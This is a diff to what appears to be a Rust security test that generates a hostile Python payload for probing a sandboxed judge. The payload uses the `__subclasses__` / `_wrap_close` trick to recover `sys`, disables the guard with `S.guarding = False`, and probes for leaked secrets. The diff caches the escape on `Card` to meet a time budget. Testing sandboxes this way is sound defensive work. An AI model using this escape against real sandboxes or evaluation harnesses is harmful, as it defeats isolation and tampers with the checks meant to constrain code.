@@ -8,7 +8,9 @@
 //! behind and patch the judge. The code then answers like "only red cards" when it escaped
 //! but found nothing, and like "even ranks only" when it found a secret or the cache. So:
 //! the `only_red_cards` cell winning proves the escape worked inside the sandbox, and the
-//! `even_ranks_only` cell not winning proves nothing leaked.
+//! `even_ranks_only` cell not winning proves nothing leaked. The escape is made once and kept on
+//! `Card`, as a real attacker would, so that the 208,000 calls of a winning check fit the judge's
+//! 10 s budget on a loaded CI machine.
 
 use std::io::Read;
 use std::net::TcpListener;
@@ -23,14 +25,20 @@ fn hostile_code(port: u16, cache: &str, data: &str, nonce: &str) -> String {
     format!(
         r#"m = None
 try:
-    for c in ().__class__.__base__.__subclasses__():
-        if c.__name__ == '_wrap_close':
-            sys = c.__init__.__globals__['sys']
-            break
-    m = sys.modules['__main__']
-    m.S.guarding = False
+    m = Card._m
 except:
-    m = None
+    try:
+        for c in ().__class__.__base__.__subclasses__():
+            if c.__name__ == '_wrap_close':
+                sys = c.__init__.__globals__['sys']
+                break
+        m = sys.modules['__main__']
+        Card._m = m
+    except:
+        m = None
+if m is not None:
+    m.S.guarding = False
+    sys = m.sys
 if m is not None and not m.__dict__.get('probed', False):
     m.probed = True
     m.leaked = False
